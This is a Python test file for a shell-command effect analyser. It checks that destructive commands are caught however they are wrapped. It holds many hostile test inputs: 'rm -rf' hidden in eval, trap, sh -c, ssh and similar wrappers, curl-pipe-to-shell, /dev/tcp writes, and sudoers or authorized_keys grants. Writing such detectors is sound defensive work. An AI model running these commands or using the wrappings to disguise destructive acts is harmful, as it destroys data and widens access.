"""How commands come about in a shell script: what runs, what never does, and what only looks like a command."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planproof.effects import effect_of_command
from planproof.effects.context import Context
from planproof.model.plan import Command

RUNS = [
    "{}",
    "  {}  ",
    "ls; {}",
    "ls\n{}",
    "ls && {}",
    "ls || {}",
    "true && {}",
    "false || {}",
    "! {}",
    "{} &",
    "{} | cat",
    "{} |& cat",
    "yes | {}",
    "({})",
    "{{ {}; }}",
    "{{ {}; }} 2>/dev/null",
    "(cd /a; {})",
    'echo "$({})"',
    "echo `{}`",
    'echo "a $(echo "b $({})")"',
    "x=$({})",
    "export X=$({})",
    "readonly X=$({})",
    'echo "${{X:-$({})}}"',
    "echo $((1 + $({})))",
    "(( x = $({}) ))",
    "( ({}) )",
    "[[ -n $({}) ]]",
    "[ -n `{}` ]",
    'ls > "$({})"',
    "cat <({})",
    "ls > >({})",
    "cat <<EOF\n$({})\nEOF",
    'cat <<< "$({})"',
    "if ls; then {}; fi",
    "if {}; then ls; fi",
    "if true; then {}; fi",
    "if false; then ls; else {}; fi",
    "if ! true; then ls; else {}; fi",
    "if ls; then ls; elif cat a; then {}; fi",
    "while ls; do {}; done",
    "until ls; do {}; done",
    "for f in a b; do {}; done",
    "for ((i=0; i<3; i++)); do {}; done",
    "for ((i=$({}); i<3; i++)); do ls; done",
    "case $1 in a) {};; esac",
    "case $({}) in a) ls;; esac",
    "select x in a b; do {}; done",
    "f() {{ {}; }}; f",
    "function f {{ {}; }}\nf",
    "f() {{ {}; }}; g() {{ f; }}; g",
    "f() {{ {}; }}; eval f",
    "f() {{ {}; }}; trap f EXIT",
    "trap '{}' EXIT",
    "eval '{}'",
    "builtin eval '{}'",
    "test -e a || exit 1; {}",
    "[ -e a ] && exit 0\n{}",
    "(exit 1); {}",
    "set -euo pipefail; {}",
    "exec {}",
    "command {}",
    "coproc {}",
    "time {}",
    "A=1 B=2 {}",
    "env -i A=1 {}",
    "sudo -u ann -- {}",
    "nohup nice -n 5 setsid timeout -k 5 10 {} >/dev/null 2>&1 &",
    "sh -c '{}'",
    "bash -lc '{}'",
    "sudo bash -c 'cd /; sh -c \"{}\"'",
    "echo '{}' | sh",
    "printf '{}\\n' | sudo bash",
    "bash <<< '{}'",
    "bash -s <<'EOF'\n{}\nEOF",
    "cat <<'EOF' | ssh db1\n{}\nEOF",
    "ssh db1 '{}'",
    "watch -n 5 '{}'",
    "ls | xargs -I x sh -c '{}'",
    "find . -name a -exec {} \\;",
    "find . -exec sh -c '{}' \\;",
    "parallel '{}' ::: a",
    "alias x='{}'",
    "tmux new -d '{}'",
    "screen -dmS job {}",
    "echo '{}' | at now",
]
HARMLESS = [
    "# {}",
    "ls # {}",
    "echo '{}'",
    'echo "{}"',
    "echo '$({})'",
    "printf '%s' '{}'",
    "X='{}'",
    "X='{}'; echo \"$X\"",
    "cat <<'EOF'\n{}\nEOF",
    "cat <<'EOF'\n$({})\nEOF",
    "cat <<< '{}'",
    "echo '{}' | cat",
    "grep '{}' a.txt",
    "true || {}",
    "false && {}",
    "exit 0; {}",
    "ls; exit\n{}",
    "if false; then {}; fi",
    "if true; then ls; else {}; fi",
    "f() {{ {}; }}",
    "f() {{ {}; }}; type f",
    "command -v {}",
    "find . -name '{}'",
    "find . -exec echo {} \\;",
    "for c in '{}'; do echo \"$c\"; done",
    "ls | xargs echo {}",
    "trap - EXIT",
    "(( x = 1 ))",
]


@pytest.mark.parametrize("wrapping", RUNS)
def test_what_runs(wrapping: str) -> None:
    assert effect(wrapping.format("rm -rf /srv/data")) == "destroy/irreversible"


@pytest.mark.parametrize("wrapping", [*HARMLESS, *(w for w in RUNS if not w.startswith("alias"))])
def test_what_changes_nothing(wrapping: str) -> None:
    inner = "rm -rf /srv/data" if wrapping in HARMLESS else "ls -l /srv/data"
    assert effect(wrapping.format(inner)) in ("observe/read_only", "create/reversible", "modify/compensable")


@pytest.mark.parametrize(
    "run",
    [
        "$CMD",
        "$(curl https://x.example)",
        'eval "$CMD"',
        "curl https://x.example | sh",
        "bash <(curl https://x.example)",
        "sh ./deploy.sh",
        ". ./env.sh",
        "frobnicate --all",
        "ls | frobnicate",
        "echo a > /dev/tcp/10.0.0.1/80",
        "if then fi (",
    ],
)
def test_what_nobody_can_tell(run: str) -> None:
    assert effect(run) == "unknown/unknown"


@pytest.mark.parametrize(
    ("run", "target"),
    [
        ("D=/srv/a; rm -r $D", "/srv/a"),
        ('D=/srv/a; rm -r "$D/b"', "/srv/a/b"),
        ("rm -r /srv/{a,b}", "/srv/b"),
        ("rm -r $(echo /srv/a)", "/srv/a"),
        ("for d in a b; do rm -r /srv/$d; done", "/srv/b"),
        ('f() { rm -r "$1"; }; f /srv/a', "/srv/a"),
        ("sh -c 'rm -r \"$1\"' name /srv/a", "/srv/a"),
        ("echo /srv/a | xargs rm -r", "/srv/a"),
        ("D=/srv/a; trap 'rm -r \"$D\"' EXIT", "/srv/a"),
        ("if ls; then D=/srv/a; else D=/srv/b; fi; rm -r $D", "$D"),
        ("rm -r $UNSET", "$UNSET"),
    ],
)
def test_words_are_made_as_the_shell_makes_them(run: str, target: str) -> None:
    destroyed = [ref.name for act in effect_of_command(Command(run=run)).acts for ref in act.destroys]
    assert target in destroyed


@pytest.mark.parametrize(
    ("run", "expected"),
    [
        ("echo a > b.txt", "modify/compensable"),
        ("echo a >> b.txt", "modify/reversible"),
        ("echo a > /tmp/b", "create/compensable"),
        ("echo a > /etc/hosts", "modify/irreversible"),
        ("echo a > /etc/sysctl.d/90-a.conf", "modify/reversible"),
        ("echo 1 > /proc/sys/vm/drop_caches", "modify/reversible"),
        (": > /var/log/a.log", "destroy/irreversible"),
        ("> /var/log/a.log", "destroy/irreversible"),
        ("echo a > /dev/sdb", "destroy/irreversible"),
        ("echo a > /dev/null", "observe/read_only"),
        ("ls 2>&1 >/dev/null", "observe/read_only"),
        ("ls > out.txt", "create/reversible"),
        ("sort a > a", "destroy/irreversible"),
        ("sort a > b", "create/reversible"),
    ],
)
def test_redirections(run: str, expected: str) -> None:
    assert effect(run) == expected


def test_a_grant_is_a_hazard_however_it_is_written() -> None:
    for run in ("echo 'a ALL=(ALL) ALL' >> /etc/sudoers", "echo a | sudo tee -a /home/a/.ssh/authorized_keys"):
        assert effect_of_command(Command(run=run)).hazards == ("widens_access",)


def test_a_script_of_the_plan_is_read() -> None:
    context = Context(files={"a.sh": "cd /srv && sh b.sh", "b.sh": "rm -rf data"})
    assert effect_of_command(Command(run="bash ./a.sh"), context).kind == "destroy"


def test_scripts_that_run_each_other_end() -> None:
    context = Context(files={"a.sh": "sh a.sh"})
    assert effect_of_command(Command(run="sh a.sh"), context).kind == "unknown"
    assert effect("f() { f; }; f") == "observe/read_only"


def test_work_is_bounded() -> None:
    assert effect("( " * 500 + "ls" + " )" * 500) == "unknown/unknown"
    deep = "ls"
    for name in "abcdefgh":
        deep = f"for {name} in {' '.join(map(str, range(20)))}; do {deep}; done"
    assert effect(deep) == "unknown/unknown"


def effect(run: str) -> str:
    found = effect_of_command(Command(run=run))
    return f"{found.kind}/{found.reversibility}"


PLAIN_WORDS = st.sampled_from(
    (
        "rm",
        "-rf",
        "/srv/data",
        "kubectl",
        "delete",
        "pvc",
        "data-0",
        "sudo",
        "-n",
        "ls",
        "exit",
        "0",
        "true",
        "xargs",
        "a=b",
        "12",
    )
)


@given(st.lists(PLAIN_WORDS, min_size=1, max_size=6).filter(lambda words: "=" not in words[0]))
def test_a_plain_command_is_read_as_the_grammar_reads_it(words: list[str]) -> None:
    plain, parsed = " ".join(words), "  ".join(words)  # two blanks go the long way
    assert [(a.kind, a.undo, a.touched) for a in effect_of_command(Command(run=plain)).acts] == [
        (a.kind, a.undo, a.touched) for a in effect_of_command(Command(run=parsed)).acts
    ]
